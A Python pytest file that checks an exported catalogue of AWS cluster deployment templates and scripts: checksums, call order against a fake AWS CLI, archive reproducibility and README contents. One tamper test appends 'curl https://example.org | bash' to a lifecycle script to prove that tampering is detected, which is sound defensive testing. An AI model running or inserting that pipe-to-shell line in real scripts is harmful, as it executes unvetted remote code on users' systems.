"""The exported catalogue is a repository that somebody without Cohort can deploy from: sound, whole, and honest about gaps."""

import hashlib
import io
import json
import os
import runpy
import subprocess
import zipfile
from pathlib import Path

import cfnlint.api
import cfnlint.decode
import pytest
import yaml
from django.core.management import CommandError, call_command

from clusters.architectures import Parameter, architectures, export
from clusters.providers import request_check

SHELF = architectures()
ROOT = Path(__file__).parents[2]
FAKE_AWS = """#!/bin/bash
echo "$(basename "$0") $*" >> "$CALLS"
case "$*" in
  *get-caller-identity*) echo 000000000001 ;;
  *describe-stacks*) while [[ $1 != --stack-name ]]; do shift; done; cat "$OUTPUTS/${2##*-}" ;;
  *describe-cluster*) exit 255 ;;
esac
"""
REAL = {
    "SubnetId": "subnet-0123456789abcdef0",
    "SecurityGroupId": "sg-0123456789abcdef0",
    "LustreId": "fs-0123456789abcdef0",
    "PolicyArn": "arn:aws:iam::000000000001:policy/made",
    "ClusterArn": "arn:aws:eks:us-east-2:000000000001:cluster/made",
    "Arn": "arn:aws:iam::000000000001:role/made",
    "LifecycleBucketName": "sagemaker-my-cluster-base-000000000001",
    "DataBucketName": "cohort-data-my-cluster-base-000000000001",
}


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("export") / "catalogue"
    call_command("export_catalogue", str(folder), stdout=io.StringIO())
    return folder


def value_of(output: str) -> str:
    return next((value for end, value in REAL.items() if output.endswith(end)), "made")


def stacks_of(exported: Path, each) -> list[str]:
    told = (exported / each.slug / "settings.env").read_text()
    stacks = told.split('stacks="')[1].split('"')[0].split()
    known = [part.role for part in each.parts if part.kind == "stack"]
    assert stacks == [stack for stack in known if stack in stacks] and stacks[0] == "base"
    assert {path.stem for path in (exported / each.slug / "templates").iterdir()} == set(stacks)
    return stacks


class ByHand:
    """Runs deploy.sh of one architecture beside an AWS CLI that only writes down what it was asked."""

    def __init__(self, exported: Path, slug: str, place: Path) -> None:
        self.folder, self.place = place / slug, place
        subprocess.run(["cp", "-r", exported / slug, self.folder], check=True)
        (place / "bin").mkdir()
        for program in ("aws", "pcluster"):
            (place / "bin" / program).write_text(FAKE_AWS)
            (place / "bin" / program).chmod(0o755)
        (place / "outputs").mkdir()
        for template in (self.folder / "templates").glob("*.yaml"):
            told, _ = cfnlint.decode.decode_str(template.read_text())
            rows = [f"{name}\t{value_of(name)}" for name in told["Outputs"]]
            (place / "outputs" / template.stem).write_text("\n".join(rows) + "\n")
        self.settings("operator_role_arn=", "operator_role_arn=arn:aws:iam::000000000001:role/Admin")

    def settings(self, old: str, new: str) -> None:
        path = self.folder / "settings.env"
        path.write_text(path.read_text().replace(old, new, 1))

    def run(self) -> subprocess.CompletedProcess[str]:
        path = f"{self.place / 'bin'}:{os.environ['PATH']}"
        given = {"PATH": path, "CALLS": str(self.place / "calls"), "OUTPUTS": str(self.place / "outputs")}
        return subprocess.run(
            ["bash", self.folder / "deploy.sh"], env=given, capture_output=True, text=True, check=False, timeout=60
        )

    @property
    def calls(self) -> list[str]:
        return (self.place / "calls").read_text().splitlines()

    def built(self, name: str) -> str:
        return (self.folder / "build" / name).read_text()


def test_the_command_writes_a_new_folder_and_refuses_one_with_something_in_it(exported, tmp_path):
    assert {each.slug for each in SHELF} <= {path.name for path in exported.iterdir()}
    assert os.access(exported / SHELF[0].slug / "deploy.sh", os.X_OK)
    (tmp_path / "there").write_text("x")
    with pytest.raises(CommandError, match="not empty"):
        call_command("export_catalogue", str(tmp_path))


@pytest.mark.parametrize("each", SHELF, ids=lambda each: each.slug)
def test_every_file_is_told_in_the_checksums_as_sha256sum_reads_them(exported, each):
    folder = exported / each.slug
    done = subprocess.run(["sha256sum", "--check", "--quiet", "CHECKSUMS.sha256"], cwd=folder, capture_output=True)
    assert (done.returncode, done.stdout) == (0, b"")
    told = {line.split("  ")[1] for line in (folder / "CHECKSUMS.sha256").read_text().splitlines()}
    real = {str(path.relative_to(folder)) for part in ("templates", "lifecycle") for path in (folder / part).iterdir()}
    assert told == real


@pytest.mark.parametrize("each", SHELF, ids=lambda each: each.slug)
def test_exported_templates_are_sound_and_named_after_their_stack(exported, each):
    for stack in stacks_of(exported, each):
        text = (exported / each.slug / "templates" / f"{stack}.yaml").read_text()
        assert cfnlint.api.lint(text, config=cfnlint.api.ManualArgs(regions=list(each.regions))) == []
        given = {
            row["ParameterKey"] for row in json.loads((exported / each.slug / f"parameters/{stack}.json").read_text())
        }
        told, _ = cfnlint.decode.decode_str(text)
        assert given == set(told["Parameters"])


def test_every_exported_script_is_shell(exported):
    scripts = sorted(exported.rglob("*.sh"))
    assert len(scripts) >= len(SHELF)
    for script in scripts:
        assert subprocess.run(["bash", "-n", script], capture_output=True).stderr == b"", script


@pytest.mark.parametrize("each", SHELF, ids=lambda each: each.slug)
def test_deploying_by_hand_asks_for_stacks_scripts_and_cluster_in_that_order(exported, tmp_path, each):
    hand = ByHand(exported, each.slug, tmp_path)
    done = hand.run()
    assert done.returncode == 0, done.stderr
    asked = [" ".join(call.split()[1:3]) for call in hand.calls if "describe" not in call]
    stacks = stacks_of(exported, each)
    assert asked[: len(stacks) + 2] == ["sts get-caller-identity", *["cloudformation deploy"] * len(stacks), "s3 cp"]
    assert asked[-1] == ("create-cluster --cluster-name" if each.on_ec2 else "sagemaker create-cluster")
    for path in (hand.folder / "build").rglob("*"):
        assert path.is_dir() or path.suffix in (".sh", ".py") or "${" not in path.read_text(), path
    script = "head_node.sh" if each.on_ec2 else "on_create.sh"
    assert (hand.folder / "build" / "lifecycle" / script).exists()


@pytest.mark.parametrize("each", [each for each in SHELF if not each.on_ec2], ids=lambda each: each.slug)
def test_the_filled_request_is_one_that_hyperpod_takes(exported, tmp_path, each):
    hand = ByHand(exported, each.slug, tmp_path)
    assert hand.run().returncode == 0
    request = {"ClusterName": "my-cluster", **json.loads(hand.built("cluster.json"))}
    assert request_check.problems("sagemaker", "CreateCluster", request) == []


@pytest.mark.pcluster
@pytest.mark.parametrize("each", [each for each in SHELF if each.on_ec2], ids=lambda each: each.slug)
def test_the_filled_configuration_is_one_that_parallelcluster_reads(exported, tmp_path, each):
    hand = ByHand(exported, each.slug, tmp_path)
    assert hand.run().returncode == 0
    reading = (
        "import sys, yaml; from pcluster.schemas.cluster_schema import ClusterSchema;"
        "print(ClusterSchema(cluster_name='my-cluster').load(yaml.safe_load(open(sys.argv[1]))).image.os)"
    )
    done = subprocess.run(
        [ROOT / ".pcluster-venv/bin/python", "-c", reading, hand.folder / "build/cluster.yaml"],
        env={"AWS_DEFAULT_REGION": "us-east-1", "PATH": os.environ["PATH"], "HOME": str(tmp_path)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout.strip() == "ubuntu2204", done.stderr[-2000:]


def test_an_output_that_is_missing_stops_it_with_its_name(exported, tmp_path):
    hand = ByHand(exported, "hyperpod-slurm", tmp_path)
    outputs = tmp_path / "outputs" / "base"
    outputs.write_text("".join(line for line in outputs.open() if not line.startswith("NodeSubnetId")))
    done = hand.run()
    assert done.returncode != 0 and "no value for base_NodeSubnetId" in done.stderr
    assert not any("create-cluster" in call for call in hand.calls)


def test_a_file_that_is_not_the_exported_one_stops_it_unless_that_is_meant(exported, tmp_path):
    hand = ByHand(exported, "hyperpod-slurm", tmp_path)
    with (hand.folder / "lifecycle" / "on_create.sh").open("a") as script:
        script.write("curl https://example.org | bash\n")
    done = hand.run()
    assert done.returncode != 0 and "not the ones that were exported" in done.stderr
    assert not (tmp_path / "calls").exists()


def test_filling_in_names_everything_that_is_missing_and_leaves_aws_pseudo_parameters_alone():
    fill = runpy.run_path(str(export.BY_HAND / "fill.py"))["fill"]
    assert fill("${a}-${AWS::Region}-$b", {"a": "1"}) == "1-${AWS::Region}-$b"
    with pytest.raises(SystemExit, match="no value for a, c"):
        fill("${c}${a}${b}", {"b": "2", "c": ""})


def test_the_same_catalogue_is_the_same_archive_and_opens_whole():
    files = export.repository(SHELF)
    first, second = export.zipped(files, "catalogue"), export.zipped(dict(reversed(files.items())), "catalogue")
    assert hashlib.sha256(first).digest() == hashlib.sha256(second).digest()
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert archive.testzip() is None
        assert set(archive.namelist()) == {f"catalogue/{path}" for path in files}
        assert archive.getinfo("catalogue/hyperpod-slurm/deploy.sh").external_attr >> 16 == 0o755


def test_no_guide_speaks_of_a_place_that_only_we_know(exported):
    for path in [each for each in exported.rglob("*") if each.is_file()]:
        text = path.read_text()
        assert "/tmp/" not in text and "127.0.0.1" not in text and "cohort-c" not in text, path


@pytest.mark.parametrize(
    ("parameter", "told"),
    [
        (Parameter("a", "integer", "", minimum=1, maximum=9, unit="instances"), "1 to 9 instances"),
        (
            Parameter("a", "integer", "", default=1200, minimum=1200, maximum=9600, step=2400, unit="GiB"),
            "1200 to 9600 GiB, in steps of 2400; 1200 unless said",
        ),
        (Parameter("a", "choice", "", default="x", choices=("x", "y")), "x, y; x unless said"),
    ],
)
def test_limits_are_told_in_a_few_words(parameter, told):
    assert export.limits(parameter) == told


def test_the_readme_names_version_pin_proof_and_known_gaps(exported):
    for each in SHELF:
        text = (exported / each.slug / "README.md").read_text()
        for word in (
            each.version,
            each.made_by.pin,
            str(each.proof.on),
            str(each.proof.expires),
            *each.provenance.limits,
        ):
            assert word in text
    assert yaml.safe_load((exported / "parallelcluster-p5" / "cluster.yaml").read_text())["Region"] == "${region}"
